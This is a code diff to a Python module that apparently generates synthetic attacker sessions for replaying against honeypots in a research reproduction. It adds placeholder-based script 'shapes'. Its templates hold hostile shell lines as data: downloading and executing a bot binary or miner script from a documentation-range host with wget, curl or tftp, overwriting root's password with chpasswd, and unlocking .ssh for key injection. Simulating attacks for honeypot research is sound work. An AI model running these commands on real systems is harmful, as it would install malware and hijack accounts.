@@ -9,13 +9,22 @@ correlates one campaign across honeypots.
 The template mix mirrors the paper's Table 3 (information-gathering, script
 execution, remote file access, SSH key handling, permission and credential
 changes).
+
+``build_script`` writes each line with placeholders where a string derived
+from its arguments goes (the token, the dropper host, the file slot) and
+then fills them in.  The unfilled lines are the script's *shape*: outside
+``FULL_RUN_KINDS`` a transcript depends on the filled strings only by
+substitution, and on the payload only through its length and sha256, so
+:class:`~repro.workload.script_runner.ScriptRunner` runs the shell once per
+shape and fills in the rest.
 """
 
 from __future__ import annotations
 
 import enum
+import re
 from dataclasses import dataclass
-from typing import List, Optional
+from typing import Dict, List, Optional, Sequence, Tuple
 
 
 class ScriptKind(enum.Enum):
@@ -28,18 +37,88 @@ class ScriptKind(enum.Enum):
     FILELESS = "fileless"  # commands, no file, no URI
 
 
+#: Kinds whose transcript holds more than a substitution of their fills:
+#: ``chpasswd`` writes ``/etc/shadow`` with a digest of its input line, so
+#: these are profiled by a full shell run per script.  The digest is
+#: ``honeypot/shell/commands/control.py:_shadow_digest``, which ``passwd``
+#: also calls: no kind types ``passwd`` today, but one that did belongs
+#: here too.  (The other such output, bytes the resolver derives from an
+#: unregistered URI, is found when a shape runs.)
+FULL_RUN_KINDS = frozenset({ScriptKind.CHPASSWD})
+
+#: The placeholders ``build_script`` writes: plain words that the shell
+#: treats like any other and that no fixed line or shell output contains.
+#: Each starts with ``_MARK``, so text without it needs no filling.
+_MARK = "qq"
+TOKEN, HOST, SLOT = "qqTOKENqq", "qqHOSTqq", "qqSLOTqq"
+_PLACEHOLDER_RE = re.compile(f"{TOKEN}|{HOST}|{SLOT}")
+
+
+def fill(text: str, values: Dict[str, str]) -> str:
+    """``text`` with every placeholder in ``values`` replaced by its value
+    (one pass: an inserted value is never itself filled)."""
+    if not values or _MARK not in text:
+        return text
+    return _PLACEHOLDER_RE.sub(
+        lambda m: values.get(m.group(), m.group()), text)
+
+
 @dataclass(frozen=True)
 class ScriptTemplate:
-    """A fully instantiated script: input lines + the campaign identity."""
+    """A fully instantiated script: input lines + the campaign identity.
+
+    ``fills`` pairs each placeholder with the string ``build_script``
+    derived for it; ``lines`` and ``dropper_uri`` are ``shape_lines`` and
+    ``shape_uri`` with those filled in.  A template built by hand has no
+    fills and is its own shape.
+    """
 
     kind: ScriptKind
     lines: List[str]
     token: str = ""
     dropper_uri: Optional[str] = None
     payload: Optional[bytes] = None
+    fills: Tuple[Tuple[str, str], ...] = ()
+    shape_lines: Tuple[str, ...] = ()
+    shape_uri: Optional[str] = None
 
     def __hash__(self) -> int:  # lines is a list; hash on identity fields
         return hash((self.kind, self.token, self.dropper_uri))
+
+    @classmethod
+    def filled(
+        cls,
+        kind: ScriptKind,
+        token: str,
+        shape_lines: Sequence[str],
+        fills: Tuple[Tuple[str, str], ...] = (),
+        shape_uri: Optional[str] = None,
+        payload: Optional[bytes] = None,
+    ) -> "ScriptTemplate":
+        """The template whose placeholders ``fills`` fills in."""
+        values = dict(fills)
+        return cls(
+            kind=kind,
+            lines=[fill(line, values) for line in shape_lines],
+            token=token,
+            dropper_uri=None if shape_uri is None else fill(shape_uri, values),
+            payload=payload,
+            fills=fills,
+            shape_lines=tuple(shape_lines),
+            shape_uri=shape_uri,
+        )
+
+    @property
+    def shape(self) -> Tuple:
+        """Everything but the fills that the script's transcript depends on:
+        the kind, the unfilled lines and dropper URI, and the payload length
+        (the download time follows it)."""
+        if self.fills:
+            lines, uri = self.shape_lines, self.shape_uri
+        else:
+            lines, uri = tuple(self.lines), self.dropper_uri
+        size = None if self.payload is None else len(self.payload)
+        return (self.kind, lines, uri, size)
 
 
 RECON_VARIANTS: List[List[str]] = [
@@ -74,14 +153,14 @@ def build_script(
     """
     if kind is ScriptKind.RECON:
         variant = RECON_VARIANTS[_stable_index(token, len(RECON_VARIANTS))]
-        return ScriptTemplate(kind=kind, lines=list(variant), token=token)
+        return ScriptTemplate.filled(kind, token, variant)
 
     if kind is ScriptKind.FILELESS:
         variant = FILELESS_VARIANTS[_stable_index(token, len(FILELESS_VARIANTS))]
-        return ScriptTemplate(kind=kind, lines=list(variant), token=token)
+        return ScriptTemplate.filled(kind, token, variant)
 
     if kind is ScriptKind.KEY_INJECT:
-        key = f"AAAAB3NzaC1yc2EAAAADAQABAAABgQ{token or 'default'}"
+        key = f"AAAAB3NzaC1yc2EAAAADAQABAAABgQ{TOKEN}"
         lines = [
             "uname -a",
             "chattr -ia .ssh; lockr -ia .ssh",
@@ -97,13 +176,13 @@ def build_script(
             "uname -m",
             "top",
         ]
-        return ScriptTemplate(kind=kind, lines=lines, token=token)
+        return ScriptTemplate.filled(kind, token, lines,
+                                     ((TOKEN, token or "default"),))
 
     if kind is ScriptKind.DROPPER:
-        host = dropper_host or "198.51.100.10"
-        binary = f"{arch}.{token or 'bot'}"
-        uri = f"http://{host}/bins/{binary}"
-        payload = _payload_bytes(token or "bot", size=52_000)
+        name = token or "bot"
+        binary = f"{arch}.{TOKEN}"
+        uri = f"http://{HOST}/bins/{binary}"
         lines = [
             "enable",
             "system",
@@ -111,45 +190,51 @@ def build_script(
             "sh",
             "/bin/busybox ECCHI",
             "cat /proc/mounts; /bin/busybox PEACH",
-            f"cd /tmp; wget {uri} || tftp -g -r {binary} {host}",
+            f"cd /tmp; wget {uri} || tftp -g -r {binary} {HOST}",
             f"chmod 777 {binary}; ./{binary}; /bin/busybox IHCCE",
         ]
-        return ScriptTemplate(
-            kind=kind, lines=lines, token=token, dropper_uri=uri, payload=payload
+        return ScriptTemplate.filled(
+            kind, token, lines,
+            ((TOKEN, name), (HOST, dropper_host or "198.51.100.10")),
+            shape_uri=uri, payload=_payload_bytes(name, size=52_000),
         )
 
     if kind is ScriptKind.MINER:
-        host = dropper_host or "198.51.100.20"
-        uri = f"http://{host}/xm/{token or 'miner'}.sh"
-        payload = _miner_payload(token or "miner")
+        name = token or "miner"
+        uri = f"http://{HOST}/xm/{TOKEN}.sh"
         lines = [
             "uname -a",
             "nproc",
             f"cd /tmp && curl -O {uri} || wget {uri}",
-            f"chmod +x {(token or 'miner')}.sh",
-            f"sh {(token or 'miner')}.sh",
+            f"chmod +x {TOKEN}.sh",
+            f"sh {TOKEN}.sh",
         ]
-        return ScriptTemplate(
-            kind=kind, lines=lines, token=token, dropper_uri=uri, payload=payload
+        return ScriptTemplate.filled(
+            kind, token, lines,
+            ((TOKEN, name), (HOST, dropper_host or "198.51.100.20")),
+            shape_uri=uri, payload=_miner_payload(name),
         )
 
     if kind is ScriptKind.CHPASSWD:
-        new_password = f"P@{token or 'ss'}w0rd"
         lines = [
             "uname -a",
-            f'echo "root:{new_password}" > /tmp/.p',
+            f'echo "root:P@{TOKEN}w0rd" > /tmp/.p',
             "chpasswd < /tmp/.p",
             "rm -f /tmp/.p",
         ]
-        return ScriptTemplate(kind=kind, lines=lines, token=token)
+        return ScriptTemplate.filled(kind, token, lines,
+                                     ((TOKEN, token or "ss"),))
 
     if kind is ScriptKind.FILE_TOKEN:
         lines = [
             "uname -a",
-            f'echo "{token}" > /var/tmp/.var{_stable_index(token, 97):02d}',
+            f'echo "{TOKEN}" > /var/tmp/.var{SLOT}',
             "cat /proc/cpuinfo",
         ]
-        return ScriptTemplate(kind=kind, lines=lines, token=token)
+        return ScriptTemplate.filled(
+            kind, token, lines,
+            ((TOKEN, token), (SLOT, f"{_stable_index(token, 97):02d}")),
+        )
 
     raise ValueError(f"unhandled script kind {kind!r}")
 
